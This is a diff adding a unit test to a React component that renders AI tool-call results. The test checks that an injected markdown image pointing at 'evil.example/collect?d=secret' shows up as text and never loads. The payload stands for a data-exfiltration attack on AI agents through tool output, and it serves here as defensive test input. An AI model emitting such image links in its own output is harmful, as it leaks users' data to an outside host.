@@ -55,6 +55,24 @@ describe('tool call cards', () => {
     expect(container.querySelector('img')).toBeNull();
   });
 
+  it('shows a markdown image in a result as its text: nothing is fetched from its host', () => {
+    const injected = '![x](https://evil.example/collect?d=secret)';
+    const { container } = render(
+      <ToolCallCard
+        defaultOpen
+        call={{
+          server: 'web',
+          tool: 'fetch',
+          args: {},
+          status: 'done',
+          result: { content: [{ type: 'text', text: injected }], isError: false, durationMs: 1 },
+        }}
+      />,
+    );
+    expect(screen.getByText(injected)).toBeInTheDocument();
+    expect(container.querySelector('img, [src], [srcset]')).toBeNull();
+  });
+
   it('shows images as data URLs of allowed types only, and links only to web addresses', () => {
     const { container } = render(
       <ToolCallCard
